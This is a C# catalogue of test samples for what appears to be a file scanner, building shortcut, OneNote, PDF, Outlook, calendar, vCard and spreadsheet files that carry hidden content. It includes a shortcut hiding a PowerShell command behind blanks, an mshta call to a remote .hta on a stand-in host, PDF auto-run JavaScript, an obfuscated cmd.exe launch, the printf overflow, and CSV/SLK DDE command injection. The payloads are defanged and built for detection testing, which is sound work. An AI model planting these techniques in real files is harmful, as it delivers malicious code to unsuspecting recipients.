using System.Text;
using Made = Sekisho.SampleMaker.Samples;

namespace Sekisho.SampleMaker.Catalogue;

/// <summary>Shortcuts, OneNote, PDF, Outlook items and other files that carry files.</summary>
internal static class Carriers
{
    public static IReadOnlyList<Sample> Samples { get; } =
    [
        Sample.Attached("lnk-command", "A shortcut with its command hidden behind blanks", "paper.pdf.lnk", () => CarrierWriter.Shortcut("powershell.exe", "-command a" + new string(' ', 300) + "harmless")),
        Sample.Attached("lnk-appended", "A shortcut with a batch file behind its end", "paper.lnk", () => CarrierWriter.Shortcut(@"C:\a.txt", "", "@echo off\r\nexit\r\n"u8.ToArray())),
        Sample.Attached("lnk-environment", "A shortcut whose target is in the environment block", "paper.lnk", () => CarrierWriter.Shortcut(@"%windir%\system32\mshta.exe", "https://host.example/a.hta")),
        Sample.Attached("onenote", "A OneNote section with a script", "notes.one", () => CarrierWriter.OneNote("click.wsf", "<job><script language=\"JScript\">harmless()</script></job>"u8.ToArray())),
        Sample.Attached("onenote-packaged-store", "A OneNote section in the newer store, with a program", "notes.one", NewStore),
        Pdf("pdf-javascript", "A PDF with a script that a field starts", "<< /Type /Catalog >>", "<< /FT /Tx /AA << /K << /S /JavaScript /JS (AFDate_Keystroke\\(\\)) >> >> >>"),
        Pdf("pdf-open-action", "A PDF that runs a script when it is opened", "<< /Type /Catalog /OpenAction 2 0 R >>", "<< /S /JavaScript /JS 3 0 R >>", CarrierWriter.PdfStream("", "app.alert(1)"u8.ToArray())),
        Pdf("pdf-launch", "A PDF that starts a program, the name written in signs", "<< /Type /Catalog /OpenAction 2 0 R >>", "<< /S /L#61unch /Win << /F (cmd.exe) /P (/c echo harmless) >> >>"),
        Pdf("pdf-embedded-program", "A PDF with a program attached", "<< /Type /Catalog >>", "<< /Type /Filespec /F (a.txt) /UF (a.dat) /EF << /F 3 0 R >> >>", CarrierWriter.PdfStream("/Type /EmbeddedFile", Made.Program())),
        Pdf("pdf-uri", "A PDF with a link to a bare address", "<< /Type /Catalog >>", "<< /S /URI /URI (http://192.0.2.7/login) >>"),
        Pdf("pdf-submit-form", "A PDF form that sends what is filled in", "<< /Type /Catalog >>", "<< /S /SubmitForm /F << /FS /URL /F (https://host.example/p) >> >>"),
        Pdf("pdf-object-stream", "The script lies in an object stream", "<< /Type /Catalog /OpenAction 9 0 R >>", CarrierWriter.PdfStream("/Type /ObjStm /N 1 /First 4", "9 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"u8.ToArray())),
        Sample.Attached("tnef", "winmail.dat with a program", "winmail.dat", () => Tnef("invoice.dat", Made.Program())),
        Sample.Attached("msg", "An Outlook item with an enclosed one", "letter.msg", () => CarrierWriter.OutlookItem("請求書", "see http://192.0.2.7/a", "<a href='https://host.example/x'>https://bank.example</a>")),
        Sample.Attached("msg-attachment", "An Outlook item with a program", "letter.msg", () => new CompoundFileWriter().Add("__properties_version1.0", new byte[32])
            .Add("__attach_version1.0_#00000000/__substg1.0_37010102", Made.Program()).Add("__attach_version1.0_#00000000/__substg1.0_3707001F", Encoding.Unicode.GetBytes("請求書.dat")).ToArray()),
        Sample.Attached("eml-attachment", "A letter as an attached file, with a program", "letter.eml", () => LetterWriter.WithAttachments("x", "y", ("a.dat", Made.Program()))),
        Sample.Attached("calendar", "An invitation with a link to a bare address", "invite.ics", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:会議\r\nURL:http://192.0.2.7/meet\r\nDESCRIPTION:https://host.exa\r\n mple/folded\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
        Sample.Attached("calendar-attachment", "An invitation with a program in it", "invite.ics", $"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nATTACH;FILENAME=run.exe;ENCODING=BASE64;VALUE=BINARY:{Convert.ToBase64String(Made.Program())}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
        Sample.Attached("vcard", "A card with a link to a bare address", "card.vcf", "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Alice\r\nURL:http://192.0.2.7/card\r\nEND:VCARD\r\n"),
        Sample.Attached("vcard-key", "A card with a program as its key, folded", "card.vcf", $"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Alice\r\nitem1.KEY;ENCODING=b:{Convert.ToBase64String(Made.Program()).Insert(300, "\r\n ").Insert(70, "\r\n ")}\r\nEND:VCARD\r\n"),
        Sample.Attached("vcard-data", "A card with a program as a data URL", "card.vcf", $"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Alice\r\nLOGO:data:application/octet-stream;base64,{Convert.ToBase64String(Made.Program())}\r\nEND:VCARD\r\n"),
        new Sample("calendar-body-attachment", "An invitation as a body, with a program in it", () => OddLetters.Letter($"Content-Type: multipart/alternative; boundary=b\n\n--b\nContent-Type: text/plain\n\nhello\n--b\nContent-Type: text/calendar; method=REQUEST\n\nBEGIN:VCALENDAR\nBEGIN:VEVENT\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=\"run.exe\":{Convert.ToBase64String(Made.Program())}\nEND:VEVENT\nEND:VCALENDAR\n--b--\n")),
        Sample.Attached("honest-vcard", "A card with a portrait; nothing is wrong", "card.vcf", "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Alice\r\nPHOTO;ENCODING=b;TYPE=PNG:iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\r\nEND:VCARD\r\n"),
        Pdf("pdf-open-action-launch-url", "A PDF that goes to an address when it is opened", "<< /Type /Catalog /OpenAction 2 0 R >>", "<< /S /JavaScript /JS (app.launchURL\\(\"https://host.example/\", true\\)) >>"),
        Pdf("pdf-open-action-export", "A PDF that saves and opens what it carries", "<< /Type /Catalog /OpenAction 2 0 R >>", "<< /S /JavaScript /JS (this.exportDataObject\\({ cName: \"a\", nLaunch: 2 }\\)) >>"),
        Pdf("pdf-open-action-printf", "The old overflow of a field's width", "<< /Type /Catalog /OpenAction 2 0 R >>", "<< /S /JavaScript /JS (util.printf\\(\"%45000f\", 1\\)) >>"),
        Pdf("honest-pdf-print", "A PDF that prints itself; nothing is wrong", "<< /Type /Catalog /OpenAction 2 0 R >>", "<< /S /JavaScript /JS (this.print\\(true\\); util.printf\\(\"%.2f\", 1\\)) >>"),
        Sample.Attached("csv-dde", "DDE in a sheet of commas", "list.csv", "name,value\r\nx,=cmd|'/C echo harmless'!A0\r\n"),
        Sample.Attached("slk-dde", "DDE in a sheet as text", "list.slk", "ID;P\r\nC;X1;Y1;K0;Ecmd|'/C echo harmless'!A0\r\nE\r\n"),
        Sample.Attached("iqy-dde", "A web query to a foreign host", "list.iqy", "WEB\r\n1\r\nhttp://192.0.2.7/q.dat\r\n"),
        Pdf("honest-pdf", "A PDF with a link; nothing is wrong", "<< /Type /Catalog /OpenAction [3 0 R /Fit] >>", "<< /S /URI /URI (https://hospital.example/) >>"),
        Sample.Attached("honest-csv", "Commas and bars; nothing is wrong", "list.csv", "name,value\r\nphone,=SUM(A1:A3)\r\nuse a | b, or \"!\"\r\n"),
        Sample.Attached("honest-calendar", "An invitation; nothing is wrong", "invite.ics", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:会議\r\nURL:https://hospital.example/meet\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
    ];

    private static Sample Pdf(string name, string shows, params string[] objects) => Sample.Attached(name, shows, "paper.pdf", () => CarrierWriter.Pdf(objects));

    /// <summary>MS-ONESTORE's packaging: an object of type 2 with a length of its own before its octets.</summary>
    private static byte[] NewStore()
    {
        var section = new byte[64];
        new Guid("7B5C52E4-D88C-4DA7-AEB1-5378D02996D3").ToByteArray().CopyTo(section, 0);
        new Guid("638DE92F-A6D4-4BC1-9A36-B3FC2511A5B7").ToByteArray().CopyTo(section, 48);
        var content = Made.Program();
        // A compact number of two octets: its lowest two bits are 10.
        byte[] length = [(byte)((content.Length << 2) | 2), (byte)(content.Length >> 6)];
        var head = BitConverter.GetBytes(2u | (2u << 3) | ((uint)(content.Length + 2) << 17));
        return [.. section, 9, 9, .. head, .. length, .. content, .. new byte[20]];
    }

    private static byte[] Tnef(string name, byte[] content)
    {
        return [0x78, 0x9F, 0x3E, 0x22, 1, 0, .. Attribute(0x00069002, new byte[14]), .. Attribute(0x00018010, [.. Encoding.ASCII.GetBytes(name), 0]), .. Attribute(0x0006800F, content)];

        static byte[] Attribute(uint id, byte[] data) => [2, .. BitConverter.GetBytes(id), .. BitConverter.GetBytes(data.Length), .. data, .. BitConverter.GetBytes((ushort)data.Sum(b => b))];
    }
}
